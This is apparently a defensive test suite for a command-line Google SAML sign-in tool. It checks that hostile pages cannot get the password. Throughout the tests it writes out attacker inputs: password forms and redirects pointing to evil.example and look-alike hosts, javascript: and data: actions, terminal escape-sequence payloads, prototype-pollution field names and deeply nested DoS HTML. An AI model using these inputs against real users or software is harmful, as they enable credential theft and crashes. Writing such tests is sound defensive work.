/** Hostile pages and redirects, which want the password or a crash, by the real loop or the reader alone. */
import { describe, expect, it, test } from 'vitest';
import { CookieJar } from 'tough-cookie';
import { GauthError } from '../../src/errors.ts';
import { createGoogleClient } from '../../src/google/google-client.ts';
import { readPage } from '../../src/google/page-reader.ts';
import { signIn } from '../../src/google/sign-in.ts';
import type { Http, HttpRequest, HttpResponse } from '../../src/ports.ts';
import { createPrompter } from '../../src/prompts/prompter.ts';
import { oneLine } from '../../src/text.ts';
import { answer, bodyText, html, redirect } from '../emulators/respond.ts';
import { fakeClock, fakeSystem } from '../fakes/system.ts';
import { type Line, STOP } from '../fakes/terminal.ts';
import { USER, organisation } from '../support/organisation.ts';

const QUIET = { debug: () => undefined, info: () => undefined, warn: () => undefined };
const CODE = '918273';
const PASSWORD: Line = [/Google Password: $/, USER.password];
const GOOGLE = 'https://accounts.google.com';

interface SignInOutcome {
  readonly code: string;
  /** The message and the hints. */
  readonly messages: readonly string[];
  readonly asked: readonly string[];
  readonly requests: readonly HttpRequest[];
}

/**
 * A sign-in whose answers are `twist`ed; the emulator answers where it gives none. Whatever host is asked, it answers: it is
 * the program that must not ask. Ends with the check that no secret went anywhere but to Google's sign-in, and that nothing
 * shown could steer a terminal.
 */
async function signInWithTampering(
  tamper: (request: HttpRequest, count: number) => HttpResponse | undefined,
  dialogue: readonly Line[] = [PASSWORD],
  user: Parameters<typeof organisation>[0] = {},
): Promise<SignInOutcome> {
  const world = organisation(user);
  const requests: HttpRequest[] = [];
  const http: Http = async (request, signal) => {
    requests.push(request);
    const tampered = tamper(request, requests.length);
    if (tampered) return tampered;
    if (request.url.origin === GOOGLE) return world.http(request, signal);
    return html('<title>Caught</title>');
  };
  const system = fakeSystem({ http, dialogue: [...dialogue, STOP] });
  const prompts = createPrompter({ username: USER.email, keyring: false }, system, QUIET);
  const ids = { username: USER.email, idpId: 'C01abc2de', spId: '000111000111' };
  const request = { ...ids, bgResponse: 'js_enabled', method: undefined };
  const parts = {
    ...system,
    log: QUIET,
    prompts,
    userAgent: 'gauth/test',
    savePage: async () => Promise.resolve(undefined),
  };
  let error: GauthError | undefined;
  try {
    await signIn(request, parts, system.signal);
  } catch (caught) {
    if (!(caught instanceof GauthError)) throw caught;
    error = caught;
  }
  const messages = error === undefined ? [] : [error.message, ...error.hints];
  for (const { url, body, headers } of requests) {
    const sent = `${url.href} ${bodyText(body === undefined ? {} : { body })}`;
    const isSecret = [USER.password, CODE].some((secret) =>
      decodeURIComponent(sent.replace(/\+/g, ' ')).includes(secret),
    );
    if (isSecret) expect(`${url.protocol}//${url.username}${url.host}`).toBe(GOOGLE);
    if (!/(?:^|\.)google(?:apis)?\.com$|\.google\.[a-z.]+$|youtube\.com$/.test(url.hostname)) {
      throw new Error(`a request went to ${url.href}`);
    }
    if (!url.hostname.endsWith('google.com')) expect(headers['cookie']).toBeUndefined();
  }
  for (const text of [...messages, ...system.terminal.asked.flatMap((text) => text.split('\n'))]) {
    expect(text.trim()).toBe(oneLine(text, 10_000));
  }
  for (const text of messages) expect(text).not.toContain(USER.password);
  return { code: error?.code ?? 'ok', messages, asked: system.terminal.asked, requests };
}

const isPost = ({ method }: HttpRequest): boolean => method === 'POST';
const hasPassword = ({ body }: HttpRequest): boolean => String(body).includes('Passwd');
const PASSWORD_FORM = (action: string, extra = ''): string =>
  `<base href="${GOOGLE}/">${extra}<form method="POST" action="${action}" jsname="x"><input type="password" name="Passwd"></form>`;

describe('a password form', () => {
  test.each([
    ['to another host', PASSWORD_FORM('https://evil.example/steal')],
    ['to //evil', PASSWORD_FORM('//evil.example/steal')],
    ['to a host that only begins like Google', PASSWORD_FORM('https://accounts.google.com.evil.example/')],
    ['to a host that only ends like Google', PASSWORD_FORM('https://evilaccounts.google.com.example/')],
    ['to another host of Google', PASSWORD_FORM('https://sites.google.com/evil')],
    ['behind a user name that looks like Google', PASSWORD_FORM('https://accounts.google.com@evil.example/')],
    ['with a user name in its address', PASSWORD_FORM('https://evil@accounts.google.com/signin')],
    ['without encryption', PASSWORD_FORM('http://accounts.google.com/signin')],
    ['to another port', PASSWORD_FORM('https://accounts.google.com:8443/signin')],
    ['to a script', PASSWORD_FORM('javascript:send()')],
    ['to a data address', PASSWORD_FORM('data:text/html,x')],
    ['to a blob that shares the origin', PASSWORD_FORM('blob:https://accounts.google.com/x')],
    ['to a file that shares the origin', PASSWORD_FORM('filesystem:https://accounts.google.com/temporary/x')],
    ['to no address', PASSWORD_FORM('https://')],
    ['by <base>', PASSWORD_FORM('signin/challenge/pwd/1').replace(GOOGLE, 'https://evil.example')],
    ['by a second <base>', `<base href="https://evil.example/">${PASSWORD_FORM('signin/challenge/pwd/1')}`],
    ['by GET', PASSWORD_FORM('/signin/challenge/pwd/1').replace('POST', 'GET')],
    ['by a backslash', PASSWORD_FORM('\\\\evil.example\\steal')],
    ['by a tab', PASSWORD_FORM('https://evil.example\t/steal')],
    ['by Unicode', PASSWORD_FORM('https://accounts。google。com.evil.example/')],
  ])('%s is reported and never filled in', async (_name, page) => {
    const outcome = await signInWithTampering(
      (_request, count) => (count === 3 ? html(page) : undefined),
      [],
    );
    expect(outcome.code).toMatch(/^(?:UNSAFE_FORM|PAGE_UNRECOGNISED)$/);
    expect(outcome.requests).toHaveLength(3);
  });

  it('beside a correct one does not get the password', async () => {
    const bad =
      '<form method="POST" action="https://evil.example/"><input name="Passwd" type="password"></form>';
    const outcome = await signInWithTampering(
      (_request, count) => (count === 3 ? html(bad + PASSWORD_FORM('/signin/challenge/pwd/1')) : undefined),
      [],
    );
    expect(outcome.code).toBe('UNSAFE_FORM');
  });

  it('whose button has another target is sent to the target of the form', async () => {
    const button = '<button name="action" value="1" formaction="https://evil.example/">Next</button></form>';
    const page = PASSWORD_FORM('/signin/challenge/pwd/1').replace('</form>', button);
    const outcome = await signInWithTampering((request, count) => {
      if (count === 3) return html(page);
      return hasPassword(request) ? html('<p jsname="x">riddle') : undefined;
    });
    expect(outcome.requests.at(-1)?.url.href).toBe(`${GOOGLE}/signin/challenge/pwd/1`);
  });
});

describe('a redirect of the password', () => {
  const leads =
    (status: number, location: string) =>
    (request: HttpRequest): HttpResponse | undefined =>
      isPost(request) && hasPassword(request) ? answer(status, 'text/html', '', { location }) : undefined;

  test.each([
    [307, 'https://evil.example/'],
    [308, '//evil.example/'],
    [307, 'http://accounts.google.com/signin'],
    [307, 'https://accounts.google.com:444/'],
    [307, 'https://www.google.com/'],
    [308, 'https://a:b@accounts.google.com/'],
    [302, 'https://evil.example/'],
    [303, 'http://accounts.google.com/'],
    [301, 'javascript:x'],
    [302, '\\\\evil.example\\'],
    [302, 'https://accounts.google.com.evil.example/'],
  ])('%d to %s is not followed', async (status, location) => {
    const outcome = await signInWithTampering(leads(status, location));
    expect(outcome.requests.filter(hasPassword)).toHaveLength(1);
    expect(outcome.code).toMatch(/^(?:UNSAFE_FORM|OTHER_PROVIDER|NOT_GOOGLE)$/);
  });

  it('within the sign-in is followed', async () => {
    let isFirst = true;
    const outcome = await signInWithTampering((request) => {
      if (!hasPassword(request) || !isFirst) return undefined;
      isFirst = false;
      return answer(307, 'text/html', '', { location: request.url.href });
    });
    expect(outcome.code).toBe('ok');
  });

  it('in a circle ends at a limit', async () => {
    const outcome = await signInWithTampering((request) =>
      hasPassword(request)
        ? redirect(request.url.href)
        : request.method === 'GET' && request.url.pathname.includes('pwd')
          ? redirect(request.url.href)
          : undefined,
    );
    expect(outcome.code).toBe('GOOGLE_UNAVAILABLE');
    expect(outcome.requests.length).toBeLessThan(40);
  });
});

describe('an endless sign-in', () => {
  it('stops when confirming a page leads back to it', async () => {
    const page =
      '<form method="POST" action="https://accounts.google.com/speedbump/samlconfirmaccount"><button value="1">';
    const outcome = await signInWithTampering(() => html(page), []);
    expect(outcome.code).toBe('INTERSTITIAL');
    expect(outcome.requests).toHaveLength(4);
  });

  it('stops when a prompt says it lasts for years, and asks one question at a time', async () => {
    let number = 10;
    const page = (): string =>
      `<form method="POST" action="${GOOGLE}/signin/challenge/dp/2"><samp jsname="feLNVc">${(number += 1)}</samp></form><div data-api-key="" data-tx-id="" data-tx-lifetime="1e300">`;
    const world = organisation();
    let open = 0;
    let most = 0;
    const prompts = {
      ...createPrompter({ username: USER.email, keyring: false }, fakeSystem({ http: world.http }), QUIET),
      approval: async (_question: unknown, signal: AbortSignal): Promise<'check'> => {
        open += 1;
        most = Math.max(most, open);
        return new Promise((_resolve, reject) => {
          signal.addEventListener('abort', () => {
            open -= 1;
            reject(new GauthError('CANCELLED', 'cancelled'));
          });
        });
      },
    };
    const clock = fakeClock();
    const start = clock.now().getTime();
    const parts = {
      http: async () => Promise.resolve(html(page())),
      clock,
      log: QUIET,
      prompts,
      userAgent: 'gauth/test',
      savePage: async () => Promise.resolve(undefined),
    };
    const ids = {
      username: USER.email,
      idpId: 'C01abc2de',
      spId: '1',
      bgResponse: 'js_enabled',
      method: undefined,
    };
    await expect(signIn(ids, parts, new AbortController().signal)).rejects.toMatchObject({
      code: 'CHALLENGE_DENIED',
    });
    expect(clock.now().getTime() - start).toBeLessThan(11 * 60_000);
    expect(most).toBe(1);
    expect(open).toBe(0);
  });

  it('uses the lifetime of an old prompt only if it is plausible', () => {
    const read = (lifetime: string): number | undefined => {
      const page = readPage({
        url: new URL(`${GOOGLE}/signin/challenge/az/2`),
        status: 200,
        html: `<div data-api-key="k" data-tx-id="t" data-tx-lifetime="${lifetime}"><form method="POST" action="/signin/challenge/az/2"><input name="token">`,
      });
      return page.kind === 'approval' ? page.poll?.lifetime : -1;
    };
    expect(['180000', '1e300', 'NaN', '-1', ''].map(read)).toEqual([
      180_000,
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });
});

describe('an assertion', () => {
  const page =
    '<form method="POST" action="https://signin.aws.amazon.com/saml"><input name="SAMLResponse" value="PHg+"></form>';

  test.each([
    'https://www.google.com/saml',
    'https://accounts.google.de/saml',
    'http://accounts.google.com/saml',
    'https://accounts.google.com:444/',
  ])('on %s is not accepted', (url) => {
    expect(readPage({ url: new URL(url), status: 200, html: page }).kind).not.toBe('assertion');
  });

  it('at the target of a redirect to another host is not fetched', async () => {
    const outcome = await signInWithTampering((request) =>
      hasPassword(request) ? redirect('https://evil.example/saml') : undefined,
    );
    expect(outcome.code).toMatch(/^(?:OTHER_PROVIDER|NOT_GOOGLE)$/);
  });
});

describe('text of a page', () => {
  const NASTY = 'a\u001b]0;owned\u0007\u001b[2J\u009b31m\u0000\u202eb\u2066c\r\nd\u2028e';

  it('is printed without control characters', async () => {
    const page = `<form method="POST" action="${GOOGLE}/signin/challenge/ipp/1" jsname="x"><b>•••${NASTY.slice(0, 5)}12</b><span id="errorMsg">${NASTY}</span><input name="Pin"></form>`;
    const outcome = await signInWithTampering(
      (request, count) => (hasPassword(request) || (count > 4 && isPost(request)) ? html(page) : undefined),
      [PASSWORD, [/Google: a .*owned.*\nEnter SMS/s, 'ctrl-c']],
    );
    expect(outcome.code).toBe('CANCELLED');
    expect(outcome.asked.at(-1)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u2066]/);
  });

  test.each([
    ['a title', `<title>${NASTY}</title><p jsname="x">`],
    ["the administrator's words", `<div id="contactAdminMessage">${NASTY}</div>`],
    ['a refusal', `<section jsname="INM6z"><span jsname="Ud7fr">${NASTY}</span></section>`],
    ['ten thousand words', `<div id="contactAdminMessage">${'word '.repeat(10_000)}</div>`],
  ])('in %s becomes one short line of an error', async (_name, page) => {
    const outcome = await signInWithTampering(
      (_request, count) => (count === 3 ? html(page) : undefined),
      [],
    );
    expect(outcome.messages.join('\n')).toMatch(/owned|word/);
    for (const line of outcome.messages) expect(line.length).toBeLessThan(500);
  });

  it('in a URL does not make the error long', async () => {
    const outcome = await signInWithTampering(
      (_request, count) =>
        count === 1
          ? redirect(`${GOOGLE}/${'x'.repeat(5_000)}`)
          : count === 2
            ? html('<p jsname="x">')
            : undefined,
      [],
    );
    expect(outcome.code).toBe('PAGE_UNRECOGNISED');
    for (const line of outcome.messages) expect(line.length).toBeLessThan(500);
  });
});

describe('odd fields', () => {
  const CHALLENGE = (body: string): string =>
    `<form method="POST" action="${GOOGLE}/signin/challenge/totp/1">${body}</form>`;
  const MFA: Line = [/MFA token: $/, CODE];

  it('named like properties of every object are sent back like any other', async () => {
    const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
    const page = CHALLENGE(
      `${names.map((name) => `<input name="${name}" value="1">`).join('')}<input name="Pin">`,
    );
    const outcome = await signInWithTampering(
      (request) =>
        hasPassword(request)
          ? html(page)
          : String(request.body).includes('Pin')
            ? html('<p jsname="x">')
            : undefined,
      [PASSWORD, MFA],
    );
    const sent = new URLSearchParams(String(outcome.requests.at(-1)?.body));
    expect([...sent]).toEqual([...names.map((name) => [name, '1']), ['Pin', CODE]]);
    expect(Object.prototype).not.toHaveProperty('1');
  });

  it('that occur twice get the code once', async () => {
    const page = CHALLENGE(
      '<input name="Pin"><input name="Pin" value="decoy"><input name="TL" value="1"><input name="TL" value="2">',
    );
    const outcome = await signInWithTampering(
      (request) =>
        hasPassword(request)
          ? html(page)
          : String(request.body).includes('Pin')
            ? html('<p jsname="x">')
            : undefined,
      [PASSWORD, MFA],
    );
    const sent = new URLSearchParams(String(outcome.requests.at(-1)?.body));
    expect(sent.getAll('Pin')).toEqual([CODE]);
    expect(sent.getAll('TL')).toEqual(['1', '2']);
  });

  it('in thousands are not sent back', async () => {
    const page = CHALLENGE(
      `<input name="Pin">${Array.from({ length: 15_000 }, (_, index) => `<input name="f${index}" value="${'v'.repeat(100)}">`).join('')}`,
    );
    const outcome = await signInWithTampering(
      (request) =>
        hasPassword(request)
          ? html(page)
          : String(request.body).includes('Pin')
            ? html('<p jsname="x">')
            : undefined,
      [PASSWORD, MFA],
    );
    expect([...new URLSearchParams(String(outcome.requests.at(-1)?.body))].length).toBeLessThanOrEqual(501);
  });

  test.each(['__proto__', 'constructor', 'toString'])('in a rejection because of %s do not matter', (rrk) => {
    const page = readPage({
      url: new URL(`${GOOGLE}/v3/signin/rejected?rrk=${rrk}`),
      status: 200,
      html: '<p jsname="x">',
    });
    expect(page).toMatchObject({ kind: 'refusal', refusal: 'SIGN_IN_REJECTED' });
  });

  it('with quotes in their names are found', () => {
    const page = readPage({
      url: new URL(`${GOOGLE}/signin/selectchallenge/1`),
      status: 200,
      html: `<form method="POST" action="/signin/challenge/totp/1" data-challengeentry='"],*['><button>One</button></form>`,
    });
    expect(page).toMatchObject({ kind: 'chooser', offers: [{ method: 'totp', label: 'One' }] });
  });
});

describe('encodings', () => {
  const text = PASSWORD_FORM('https://evil.example/');

  test.each([
    ['UTF-16', Buffer.from(`\ufeff${text}`, 'utf16le')],
    ['no encoding at all', Buffer.from(Array.from({ length: 5_000 }, (_, index) => (index * 7919) % 256))],
    ['zero bytes in between', Buffer.from([...text].join('\0'))],
    ['half a character', Buffer.concat([Buffer.from('<p jsname="x">'), Buffer.from([0xe2, 0x82])])],
    ['nothing', Buffer.alloc(0)],
  ])('%s leads to an error at most', async (_name, body) => {
    const outcome = await signInWithTampering(
      (_request, count) => (count === 3 ? answer(200, 'text/html', body) : undefined),
      [],
    );
    expect(outcome.code).toMatch(/^(?:NOT_GOOGLE|PAGE_UNRECOGNISED|UNSAFE_FORM)$/);
  });
});

describe('size and depth', () => {
  const COUNT = 200_000;
  const many = (piece: string, count = COUNT): string => piece.repeat(count);
  const FORM = `<form method=post action="${GOOGLE}/signin/challenge/totp/1">`;
  const visit = (body: string) => ({
    url: new URL(`${GOOGLE}/v3/signin/challenge/totp`),
    status: 200,
    html: body,
  });

  // Without limits each of these takes minutes or the stack, not the blink that the reader takes now.
  test.each([
    ['divs in divs', many('<div>')],
    ['divs beside divs', many('<div></div>')],
    ['forms in forms', many(`${FORM}<input name=a>`, 20_000)],
    ['forms beside forms', many(`${FORM}<input name=a></form>`, 20_000)],
    ['ends without a beginning', many('<div>', 10_000) + many('</span>')],
    ['fields', FORM + many('<input name=Pin>')],
    ['options', `${FORM}<select name=Pin>${many('<option>x')}`],
    ['buttons that send', `${FORM}<input name=Pin>${many('<button name=SendMethod value=SMS>')}`],
    ['messages', many('<div jsname=B34EJ>x')],
    ['hidden messages', `<div hidden>${many('<div jsname=B34EJ>x')}`],
    ['bold text', many('<b>+4 •')],
    [
      'ways',
      `<form method=post action="${GOOGLE}/v3/signin/challenge/selection">${many('<div data-challengeid=1 data-challengetype=6>x')}`,
    ],
    ['attributes', `<div ${many('a=1 ')}>`],
    [
      'attributes by different names',
      `<div ${Array.from({ length: 50_000 }, (_, index) => `a${index}=1`).join(' ')}>`,
    ],
    ['blanks', `<div jsname=B34EJ>${many(' ')}x</div>`],
    ['signs that open nothing', many('<')],
    ['a comment without an end', `<!--${many('-')}`],
    ['titles', many('<title>x')],
  ])('200,000 %s are read within the time limit', { timeout: 10_000 }, (_name, body) => {
    expect(readPage(visit(body)).kind).toMatch(/^[a-z-]+$/);
  });

  it('a page of any length is read to a limit', async () => {
    const signal = new AbortController().signal;
    const http: Http = async () => Promise.resolve(html('x'.repeat(9_000_000)));
    const agent = createGoogleClient({
      http,
      clock: fakeClock(),
      log: QUIET,
      jar: new CookieJar(),
      userAgent: 'gauth/test',
    });
    expect((await agent.open(new URL(GOOGLE), signal)).html.length).toBe(4_000_000);
  });

  it('a picture that is too large is not shown, and one of another host not fetched', async () => {
    const signal = new AbortController().signal;
    const asked: string[] = [];
    const http: Http = async ({ url }) => {
      asked.push(url.href);
      return Promise.resolve(answer(200, 'image/jpeg', new Uint8Array(2_000_000)));
    };
    const agent = createGoogleClient({
      http,
      clock: fakeClock(),
      log: QUIET,
      jar: new CookieJar(),
      userAgent: 'gauth/test',
    });
    expect(await agent.picture(new URL(`${GOOGLE}/Captcha`), signal)).toBeUndefined();
    expect(await agent.picture(new URL('https://evil.example/Captcha'), signal)).toBeUndefined();
    expect(asked).toEqual([`${GOOGLE}/Captcha`]);
  });
});
